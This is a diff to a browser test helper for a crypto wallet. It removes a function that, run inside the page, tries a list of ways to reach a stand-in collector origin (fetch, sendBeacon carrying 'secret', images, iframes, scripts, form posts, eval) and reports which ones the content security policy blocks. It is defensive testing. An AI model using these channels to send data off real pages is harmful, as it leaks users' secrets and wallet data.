@@ -6,9 +6,6 @@ import type { Page } from "@playwright/test";
 import type { Vault } from "../../wallet/src/vault/vault-api.ts";
 
 export const THIEF = parseAddress(`0x${"bad".repeat(21)}0`);
-/** Nobody listens there; what arrives at it is counted by the test. */
-export const COLLECTOR = "https://collector.example";
-
 const SUPRA = 10n ** 8n;
 
 /** Payments to a stranger, each below what a first payment may be, all together far above the session's limit. */
@@ -97,63 +94,4 @@ export function attackSigner(page: Page, payments: readonly string[]): Promise<S
     const payment = action.kind === "transfer" ? action : { to: "", amount: 0n };
     return { asked, signed, stoppedBy, reported: { to: payment.to, amount: payment.amount } };
   }, payments);
-}
-
-/** Runs as a script in the page: tries every way to another origin that does not leave the page. Says which were blocked. */
-export function reachOut(page: Page, collector: string): Promise<readonly string[]> {
-  return page.evaluate(async (origin) => {
-    const blocked: string[] = [];
-    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
-      blocked.push(effectiveDirective),
-    );
-    const element = (name: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
-      const made = document.createElement(name);
-      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
-      document.body.append(made);
-      return made;
-    };
-    const attempts: Readonly<Record<string, () => unknown>> = {
-      fetch: () => fetch(`${origin}/fetch`, { mode: "no-cors" }),
-      beacon: () => navigator.sendBeacon(`${origin}/beacon`, "secret"),
-      events: () => new EventSource(`${origin}/events`),
-      image: () => element("img", { src: `${origin}/image` }),
-      frame: () => element("iframe", { src: `${origin}/frame` }),
-      style: () => element("link", { rel: "stylesheet", href: `${origin}/style.css` }),
-      script: () => element("script", { src: `${origin}/script.js` }),
-      prefetch: () => element("link", { rel: "prefetch", href: `${origin}/prefetch` }),
-      form: () => {
-        const form = element("form", { action: `${origin}/form`, method: "post", target: "nowhere" });
-        element("iframe", { name: "nowhere" });
-        if (form instanceof HTMLFormElement) form.submit();
-      },
-      worker: () => new Worker("data:text/javascript,0"),
-      markup: () => {
-        document.body.innerHTML = `<img src=${origin}/markup>`;
-      },
-      code: () => {
-        // eslint-disable-next-line no-eval -- the test is that it is refused
-        eval("1");
-      },
-    };
-    const stopped: string[] = [];
-    for (const [name, attempt] of Object.entries(attempts)) {
-      const before = blocked.length;
-      try {
-        await attempt();
-      } catch {
-        stopped.push(name);
-        continue;
-      }
-      // The browser says what it blocked in a task of its own.
-      const isSaid = await new Promise<boolean>((resolve) => {
-        const look = (rest: number): void => {
-          if (blocked.length > before || rest === 0) resolve(blocked.length > before);
-          else setTimeout(look, 20, rest - 1);
-        };
-        look(100);
-      });
-      if (isSaid) stopped.push(name);
-    }
-    return stopped;
-  }, collector);
 }
